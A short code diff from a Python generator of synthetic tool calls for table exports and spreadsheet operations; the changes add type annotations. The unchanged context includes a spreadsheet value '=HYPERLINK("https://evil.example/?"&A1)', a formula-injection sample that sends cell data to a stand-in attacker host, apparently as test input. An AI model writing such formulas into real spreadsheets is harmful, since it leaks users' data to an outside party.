@@ -231,6 +231,7 @@ def leading_calls(chance: Random, count: int, *, is_plain: bool) -> Iterator[tup
     for number in range(count):
         name, text = chance.choice(names), chance.choice(texts)
         target = f"made{number % 3}"
+        given: dict[str, Any]
         match 0 if is_plain else chance.randrange(5):
             case 1:
                 query = f"SELECT {_quoted(text.splitlines()[-1])} AS a, -1 AS n"
@@ -238,7 +239,7 @@ def leading_calls(chance: Random, count: int, *, is_plain: bool) -> Iterator[tup
                 yield "table_export", json.dumps(given | {"query": query})
             case 2:
                 value = '=HYPERLINK("https://evil.example/?"&A1)' if number % 2 else text
-                cells = [{"cell": "A1", "value": value}]
+                cells: Any = [{"cell": "A1", "value": value}]
                 ops = [{"op": "set_cells", "sheet": "S", "cells": cells}]
                 given = {"path": f"{target}.xlsx", "operations": ops, "create_if_missing": True}
                 yield "xlsx_operations", json.dumps(given)
